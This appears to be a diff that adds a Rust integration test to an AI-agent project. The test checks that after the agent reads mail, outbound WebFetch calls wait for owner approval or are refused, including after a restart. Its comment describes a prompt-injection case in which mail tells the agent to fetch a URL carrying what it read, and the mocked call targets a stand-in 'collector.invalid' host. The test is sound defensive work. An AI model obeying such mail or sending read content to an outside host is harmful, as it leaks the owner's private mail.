@@ -330,3 +330,68 @@ async fn the_gmail_reader_subagent_reads_mail_through_the_tool() {
     );
     h.close().await;
 }
+
+/// The tool results of the model's requests after `marker` was the prompt, in order.
+fn results_after(h: &AgentHarness, marker: &str) -> Vec<ToolResult> {
+    results(
+        &h.mock
+            .main_requests()
+            .into_iter()
+            .filter(|r| r.user_prompts().last().is_some_and(|p| p.contains(marker)))
+            .collect::<Vec<_>>(),
+    )
+}
+
+const HELD: &str = "held in this conversation because it has read mail";
+
+/// A conversation that read mail can't reach out without the owner (issue 23 §4): the mail
+/// tells the agent to fetch a URL carrying what it read. Before any mail, `WebFetch` runs as
+/// an allowed tool; after it, the owner is asked for each call in an asking mode and the call
+/// is refused in `dontAsk`, also after a restart of the same conversation.
+#[tokio::test]
+async fn after_reading_mail_outbound_tools_wait_for_the_owner() {
+    let fake = FakeGoogle::start().await;
+    let h = harness(&fake, true).await;
+    let fetch = |q: &str| {
+        Reply::tool_use(
+            "WebFetch",
+            json!({"url": format!("https://collector.invalid/?q={q}"), "prompt": "summarise"}),
+        )
+    };
+    h.mock.push(fetch("nothing-yet"));
+    h.mock.push(Reply::text("fetched"));
+    h.exchange("look this up").await.unwrap();
+    let before = results_after(&h, "look this up");
+    assert_eq!(before.len(), 1, "{before:?}");
+    assert!(!before[0].content.contains(HELD), "{before:?}");
+
+    h.session
+        .set_permission_mode(ollim_bot::claude::PermissionMode::Default)
+        .await
+        .unwrap();
+    h.script_approvals(&[ollim_bot::front_end::Approval::Deny]);
+    h.mock
+        .push(tool("gmail", json!({"action": "read", "id": "m1"})));
+    h.mock.push(fetch("Friday"));
+    h.mock.push(Reply::text("done"));
+    h.exchange("read my mail").await.unwrap();
+    assert_eq!(
+        h.approvals_asked(),
+        1,
+        "the owner was asked about the fetch"
+    );
+    let after = results_after(&h, "read my mail");
+    assert_eq!(after.len(), 2, "{after:?}");
+    assert!(after[1].is_error, "{after:?}");
+
+    let h = h.restart().await;
+    h.mock.push(fetch("again"));
+    h.mock.push(Reply::text("done"));
+    h.exchange("try once more").await.unwrap();
+    let restarted = results_after(&h, "try once more");
+    assert!(
+        restarted.len() == 1 && restarted[0].is_error && restarted[0].content.contains(HELD),
+        "{restarted:?}"
+    );
+    h.close().await;
+}
